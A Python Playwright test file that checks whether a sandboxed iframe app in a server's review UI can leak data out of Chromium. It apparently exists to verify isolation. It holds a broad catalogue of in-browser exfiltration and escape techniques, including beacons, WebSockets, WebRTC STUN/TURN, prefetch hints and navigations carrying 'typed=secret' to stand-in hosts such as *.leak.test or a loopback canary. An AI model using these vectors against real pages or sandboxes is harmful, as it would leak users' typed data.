"""What an app in the frame of a server's UI can reach in Chromium: a canary that counts connections, datagrams and
looked-up names gets none of them. The same documents without the gate's headers reach it."""

from __future__ import annotations

import os
import re
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Final

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.acceptance.browser.conftest import ARGUMENTS, SECONDS, Site
from tests.acceptance.browser.test_server_ui import attach
from tests.fakes import server_uis
from tests.fakes.reviewers_listener import OPS
from tests.fakes.server_uis import app
from tests.fakes.system_programs import program

pytestmark = pytest.mark.timeout(300)
NAME: Final = re.compile(r"[a-z-]+\.leak\.test")


class Canary:
    """A TCP and a UDP listener on loopback. It keeps the first line of each connection."""

    def __init__(self) -> None:
        self.lines: list[str] = []
        self.datagrams = 0
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self.port, self.udp = self._tcp.getsockname()[1], self._udp.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        for work in (self._accept, self._receive):
            threading.Thread(target=work, daemon=True).start()

    def close(self) -> None:
        self._tcp.close()
        self._udp.close()

    @property
    def seen(self) -> set[str]:
        """The first segments of the requested paths; "" for a connection without a request."""
        return {found[1] if (found := re.match(r"[A-Z]+ /([a-z-]*)", line)) else "" for line in self.lines}

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                found, _ = self._tcp.accept()
                threading.Thread(target=self._read, args=(found,), daemon=True).start()

    def _read(self, connection: socket.socket) -> None:
        at = len(self.lines)
        self.lines.append("")
        with connection, suppress(OSError):
            connection.settimeout(SECONDS)
            self.lines[at] = connection.recv(300).partition(b"\r\n")[0].decode("latin-1")
            connection.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")

    def _receive(self) -> None:
        with suppress(OSError):
            while True:
                self._udp.recv(2000)
                self.datagrams += 1


@pytest.fixture
def canary() -> Iterator[Canary]:
    found = Canary()
    yield found
    found.close()


def quiet(canary: Canary) -> bytes:
    """All attempts that leave the document where it is."""
    c, ws = canary.url, canary.url.replace("http", "ws")
    body = f"""
      <link rel="preconnect" href="{c}"><link rel="dns-prefetch" href="//prefetched.leak.test">
      <link rel="preconnect" href="https://preconnected.leak.test"><link rel="prefetch" href="{c}/prefetch">
      <link rel="preload" as="image" href="{c}/preload"><link rel="modulepreload" href="{c}/modulepreload">
      <link rel="stylesheet" href="{c}/sheet"><link rel="icon" href="{c}/icon"><link rel="manifest" href="{c}/manifest">
      <style>@import url("{c}/import"); body {{ background: url("{c}/background") }}
        @font-face {{ font-family: f; src: url("{c}/font") }} p {{ font-family: f }}</style>
      <script type="speculationrules">{{"prefetch": [{{"urls": ["{c}/speculated"]}}], "prerender": [{{"urls":
        ["{c}/prerendered"]}}]}}</script>
      <p>text</p><img src="{c}/image"><object data="{c}/object"></object><embed src="{c}/embed">
      <video src="{c}/video" autoplay muted></video><iframe src="{c}/frame"></iframe>
      <iframe src="https://framed.leak.test/"></iframe>
      <iframe srcdoc="<img src='{c}/nested-image'><script>fetch('{c}/nested-fetch')</script>"></iframe>
      <script src="{c}/script"></script>"""
    script = f"""
      const tried = [
        () => fetch("{c}/fetch", {{ mode: "no-cors" }}),
        () => fetch("{c}/keepalive", {{ mode: "no-cors", keepalive: true }}),
        () => navigator.sendBeacon("{c}/beacon", "x"), () => new WebSocket("{ws}/websocket"),
        () => new EventSource("{c}/eventsource"),
        () => {{ const x = new XMLHttpRequest(); x.open("GET", "{c}/xhr"); x.send(); }},
        () => import("{c}/module"), () => new WebTransport("https://127.0.0.1:{canary.port}/webtransport"),
        () => new Worker(URL.createObjectURL(new Blob(["fetch('{c}/worker', {{mode: 'no-cors'}})"]))),
        () => new Worker("data:text/javascript,fetch('{c}/data-worker')"),
        () => new SharedWorker(URL.createObjectURL(new Blob(["fetch('{c}/shared-worker')"]))),
        () => navigator.serviceWorker.register("{c}/service-worker"),
        () => window.open("{c}/open"), () => window.open("{c}/open-top", "_top"),
        () => {{ top.location = "{c}/top"; }}, () => {{ parent.location.href = "{c}/parent"; }},
        () => {{
          const peer = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:127.0.0.1:{canary.udp}" }},
            {{ urls: "stun:stunned.leak.test" }},
            {{ urls: "turn:127.0.0.1:{canary.port}?transport=tcp", username: "typed", credential: "data" }}] }});
          peer.createDataChannel("d");
          peer.createOffer().then((offer) => peer.setLocalDescription(offer));
        }},
        () => {{
          const form = Object.assign(document.createElement("form"), {{ action: "{c}/form-blank", target: "_blank" }});
          document.body.append(form);
          form.submit();
        }},
        () => Object.assign(document.createElement("a"), {{ href: "{c}/blank", target: "_blank" }}).click(),
        () => Object.assign(document.createElement("a"), {{ href: "{c}/x", ping: "{c}/ping", target: "x" }}).click(),
      ];
      onload = () => {{
        for (const attempt of tried) try {{ Promise.resolve(attempt()).catch(() => {{}}); }} catch {{}}
        setTimeout(() => {{ document.body.dataset.done = "yes"; }}, 1500);
      }};"""
    return app(script, body)


LEAVING: Final[dict[str, str]] = {
    "location": "location = '{c}/location?typed=secret'",
    "replace": "location.replace('{c}/replace')",
    "named": "location = 'https://typed-secret.leak.test/'",
    "link": "Object.assign(document.createElement('a'), {{ href: '{c}/link' }}).click()",
    "refresh": (
        "document.head.append(Object.assign(document.createElement('meta'),"
        " {{ httpEquiv: 'refresh', content: '0;url={c}/refresh' }}))"
    ),
    "own": "location = location.href + '&typed=secret'",
    "form": (
        "document.body.append(Object.assign(document.createElement('form'), {{ action: '{c}/form', method: 'post' }}));"
        " document.forms[0].submit()"
    ),
    "named-form": (
        "document.body.append(Object.assign(document.createElement('form'), {{ action: 'https://typed.leak.test/' }}));"
        " document.forms[0].submit()"
    ),
    "other-page": "location = '/reviews'",
    "blank": "location = 'about:blank'",
}
"""Attempts to leave the document."""


@pytest.fixture
def context(browser: Browser, site: Site, tmp_path: Path) -> Iterator[BrowserContext]:
    """A browser with a profile, because others never preconnect, and with a log of its network stack."""
    arguments = [*ARGUMENTS, f"--log-net-log={tmp_path / 'net.json'}"]
    if hasattr(os, "geteuid") and os.geteuid() == 0:
        arguments.append("--no-sandbox")
    found = browser.browser_type.launch_persistent_context(
        str(tmp_path / "profile"), executable_path=program("chromium"), args=arguments, base_url=site.url
    )
    found.set_default_timeout(SECONDS * 1000)
    found.request.post("/reviews/sign-in", form={"token": OPS}, headers={"origin": site.url}, max_redirects=0)
    yield found
    found.close()


def looked_up(tmp_path: Path) -> set[str]:
    return set(NAME.findall((tmp_path / "net.json").read_text("utf-8", "replace")))


def shown(context: BrowserContext, site: Site, name: str, body: bytes) -> Page:
    review = server_uis.review(f"rv_{name.replace('-', '')}")
    site.open(review)
    attach(site, review, body)
    page = context.new_page()
    page.goto(f"/reviews/{review.id}")
    expect(page.locator("#ui iframe, #ui-told:not(:empty)").first).to_be_attached()
    return page


def test_nothing_leaves_the_frame_while_its_document_stays(
    context: BrowserContext, site: Site, canary: Canary, tmp_path: Path
) -> None:
    page = shown(context, site, "quiet", quiet(canary))
    frame = page.frames[1]
    expect(frame.locator("body[data-done]")).to_be_attached()
    storage = frame.evaluate(
        """() => Promise.all([() => localStorage, () => sessionStorage, () => indexedDB.open("x"), () => caches.keys(),
          () => document.cookie, () => cookieStore.getAll()].map(async (use) => {
            try { return typeof await use(); } catch (fault) { return fault.name; }
          }))"""
    )
    assert ["SecurityError"] * 6 == storage
    assert [] == frame.evaluate("document.featurePolicy.allowedFeatures().filter((name) => !name.startsWith('ch-'))")
    reached = frame.evaluate(
        """() => [() => parent.document, () => top.document.body, () => frameElement.id, () => parent.localStorage,
          () => parent.review].map((use) => {
            try { return typeof use(); } catch (fault) { return fault.name; }
          })"""
    )
    assert {"SecurityError", "TypeError"} == set(reached)
    assert "null" == frame.evaluate("origin")
    assert 1 == len(context.pages) - 1
    assert site.url in page.url
    with socket.create_connection(("127.0.0.1", canary.port)) as marker:
        marker.sendall(b"GET /marker HTTP/1.1\r\n\r\n")
        marker.recv(10)
    context.close()
    assert (["GET /marker HTTP/1.1"], 0, set()) == (canary.lines, canary.datagrams, looked_up(tmp_path))


def test_the_frame_cannot_leave_with_what_was_typed(
    context: BrowserContext, site: Site, canary: Canary, tmp_path: Path
) -> None:
    """Nor by another page of the gate: only its own address, whose link has been used, is asked for once more."""
    requests: list[str] = []
    context.on("request", lambda request: requests.append(request.url))
    for name, attempt in LEAVING.items():
        leaves = attempt.format(c=canary.url)
        page = shown(context, site, name, app(f"onload = () => setTimeout(() => {{ {leaves} }}, 100);"))
        expect(page.locator("#ui-told")).to_contain_text("left its page")
        expect(page.locator("#ui iframe")).to_have_count(0)
        assert page.url.startswith(site.url)
        page.close()
    assert [] == [url for url in requests if url == f"{site.url}/reviews"]
    context.close()
    assert ([], 0, set()) == (canary.lines, canary.datagrams, looked_up(tmp_path))


def bare(documents: dict[str, bytes]) -> tuple[ThreadingHTTPServer, str]:
    """A server that serves documents without any header that isolates them, and a page with a frame for each."""

    class Serves(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            name = self.path.strip("/")
            body = documents.get(name, f'<!doctype html><iframe src="/{name.removeprefix("in-")}"></iframe>'.encode())
            self.send_response(200)
            self.send_header("content-type", "text/html; charset=utf-8")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Serves)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}"


def test_the_same_documents_reach_the_canary_without_the_headers(
    context: BrowserContext, canary: Canary, tmp_path: Path
) -> None:
    """Otherwise the tests above would prove nothing."""
    documents = {"quiet": quiet(canary)}
    for name, attempt in LEAVING.items():
        documents[name] = app(f"onload = () => setTimeout(() => {{ {attempt.format(c=canary.url)} }}, 100);")
    server, url = bare(documents)
    page = context.new_page()
    wanted = {
        "fetch", "beacon", "websocket", "eventsource", "xhr", "module", "worker", "open", "image", "frame", "script",
        "sheet", "import", "background", "nested-image", "form-blank", "", "location", "replace", "link", "refresh",
    }  # fmt: skip
    page.goto(f"{url}/in-quiet", wait_until="commit")
    until(page, lambda: canary.datagrams > 0)
    for name in ("location", "replace", "named", "link", "refresh"):
        page.goto(f"{url}/in-{name}", wait_until="commit")
        until(page, lambda name=name: name == "named" or name in canary.seen)  # type: ignore[misc]
    until(page, lambda: wanted <= canary.seen)
    context.close()
    server.shutdown()
    server.server_close()
    assert {"prefetched.leak.test", "preconnected.leak.test", "stunned.leak.test"} <= looked_up(tmp_path)


def until(page: Page, holds: Callable[[], bool]) -> None:
    for _ in range(int(6 * SECONDS * 20)):  # a busy machine may take long to connect; no test waits for this in vain
        if holds():
            return
        page.wait_for_timeout(50)
    raise AssertionError("not in time")
